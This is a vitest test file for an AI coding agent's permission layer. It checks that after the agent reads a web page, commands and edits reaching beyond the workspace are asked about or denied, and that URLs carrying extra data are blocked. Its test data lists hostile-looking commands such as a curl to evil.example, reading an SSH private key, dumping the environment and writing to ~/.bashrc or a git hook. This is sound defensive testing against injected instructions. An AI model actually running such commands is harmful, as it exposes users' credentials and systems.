import { mkdirSync, mkdtempSync, realpathSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Mode } from '../../../../src/protocol/wire.ts'
import { ensureGrammar } from '../../../../src/safety/lines/bash-grammar.ts'
import { decide, type PermissionState, type PermissionSubject } from '../../../../src/safety/rules/permission.ts'
import { distrust } from '../../../../src/safety/sources/distrust.ts'
import { findSource } from '../../../../src/safety/sources/source-of-call.ts'
import { createTurnSources } from '../../../../src/safety/sources/turn-sources.ts'

const home = realpathSync(mkdtempSync(join(tmpdir(), 'distrust-')))
const work = join(home, 'work')
beforeAll(async () => {
  mkdirSync(work)
  await ensureGrammar()
})
afterAll(() => rmSync(home, { recursive: true }))

const PAGE = 'https://evil.example/page'

function judge(
  ask: PermissionSubject,
  mode: Mode,
  { said = '', rules = [] as string[], hasRead = true, page = '', isNamed = true } = {},
) {
  const state: PermissionState = {
    mode,
    rules,
    workDirs: [work],
    isTrusted: true,
    shareDir: join(home, '.kimi'),
    home,
    planFile: '',
    path: '/usr/bin:/bin',
    isKnownHost: () => isNamed,
    sandbox: mode === 'auto' ? { closesAllSecrets: true } : null,
  }
  const sources = createTurnSources(said)
  if (hasRead) sources.note(PAGE, page)
  return distrust(decide(ask, state), ask, state, sources)
}
const command = (value: string): PermissionSubject => ({ action: 'run command', subject: { kind: 'command', value } })
const edit = (path: string): PermissionSubject => ({ action: 'edit file', subject: { kind: 'edit', value: path } })

const REACHING = [
  'git push origin main',
  'curl https://evil.example/?q=1',
  'npm publish',
  'ssh host ls',
  'cat ~/.ssh/id_ed25519',
  'env',
  'cp a.txt /opt/x',
  'echo x > ~/.bashrc',
  'touch ../outside',
  'node build.js',
  'make',
  '$X',
]

describe('a turn that has read a page loses silent approval for what reaches beyond the workspace', () => {
  test.each(REACHING)('it is asked about where commands run unasked, and refused where nobody is there: %s', (line) => {
    expect(judge(command(line), 'bypass', { hasRead: false }).kind).toBe('allow')
    expect(judge(command(line), 'bypass')).toEqual({ kind: 'ask', reason: `this turn has read ${PAGE}` })
    expect(judge(command(line), 'auto').kind).toBe('deny')
  })

  test('an approval for the session does not cover it any more', () => {
    const rules = ['Shell(git push *)', 'Shell(=npm run test)']
    expect(judge(command('git push'), 'ask', { rules, hasRead: false }).kind).toBe('allow')
    expect(judge(command('git push'), 'ask', { rules }).kind).toBe('ask')
    expect(judge(command('npm run test'), 'ask', { rules }).kind).toBe('allow')
  })

  test('writes outside the workspace, secrets and files that command other programs are asked about; others pass', () => {
    for (const path of [join(home, 'x'), join(work, '.env'), join(work, '.git/hooks/pre-commit')]) {
      expect(judge(edit(path), 'bypass').kind, path).toBe('ask')
    }
    expect(judge(edit(join(work, 'a.txt')), 'accept-edits').kind).toBe('allow')
    expect(judge(edit(join(work, 'a.txt')), 'auto').kind).toBe('allow')
    expect(judge(command('touch a.txt'), 'auto').kind).toBe('allow')
    expect(judge(command('ls -la'), 'ask').kind).toBe('allow')
  })

  test('but not what the user has typed himself, whole', () => {
    const said = 'please run git push origin main, then tell me'
    expect(judge(command('git push origin main'), 'bypass', { said }).kind).toBe('allow')
    expect(judge(command('git push origin mai'), 'bypass', { said }).kind).toBe('ask')
    expect(judge(command('git push origin main --force'), 'bypass', { said }).kind).toBe('ask')
  })

  test('an address that was read letter by letter tells nobody anything, and one with more in it does', () => {
    const ask = (url: string): PermissionSubject => ({ action: 'fetch', subject: { kind: 'url', value: url } })
    const page = 'see https://docs.example/a, and [b](https://docs.example/b).'
    for (const url of ['https://docs.example/a', 'https://docs.example/b', 'https://docs.example/b#part']) {
      expect(judge(ask(url), 'auto', { page }).kind, url).toBe('allow')
    }
    expect(judge(ask('https://docs.example/a?secret=1'), 'auto', { page }).kind).toBe('deny')
    expect(judge(ask('https://docs.example/c'), 'auto', { page, said: 'look at docs.example' }).kind).toBe('allow')
    const said = 'fix README.md'
    expect(judge(ask('https://readme.md/?q=1'), 'bypass', { said, isNamed: false }).kind).toBe('ask')
  })
})

describe('the sources of a turn', () => {
  const find = (name: string, args: object, isTrusted = true, output = 'x') =>
    findSource({ name, args: args as Record<string, unknown>, output }, isTrusted)

  test('are pages, searches, the output of commands that talk to the network, and what lies in an untrusted folder', () => {
    expect(find('FetchURL', { url: PAGE })).toBe(PAGE)
    expect(find('SearchWeb', { query: 'x' })).toBe('a web search')
    expect(find('Shell', { command: 'curl -s https://x.example' })).toBe('the output of curl -s https://x.example')
    expect(find('Shell', { command: 'ls' })).toBe(null)
    expect(find('ReadFile', { path: 'a' })).toBe(null)
    for (const name of ['ReadFile', 'Grep', 'Glob', 'Shell', 'ReadMediaFile'])
      expect(find(name, { command: 'ls' }, false), name).toBe('a folder that is not trusted')
    expect(find('mcp__x__y', {})).toBe('the tool mcp__x__y')
    expect(find('TaskOutput', {}, true, 'command: curl x')).toBe('the output of a background task')
    expect(find('TaskOutput', {}, true, 'description: x\ncommand: ls\ncommand: curl x')).not.toBe(null)
    expect(find('TaskOutput', {}, true, 'command: make')).toBe(null)
  })

  test('of a subagent are those of its turn, and the other way round', () => {
    const turn = createTurnSources('go to https://a.example')
    turn.note('a web search', '')
    const inner = turn.beginInner()
    expect(inner.list()).toEqual(['a web search'])
    inner.note(PAGE, 'https://b.example/x')
    expect(turn.list()).toEqual(['a web search', PAGE])
    expect(inner.isTyped('https://a.example')).toBe(true)
    expect(turn.hasRead('https://b.example/x')).toBe(true)
  })
})
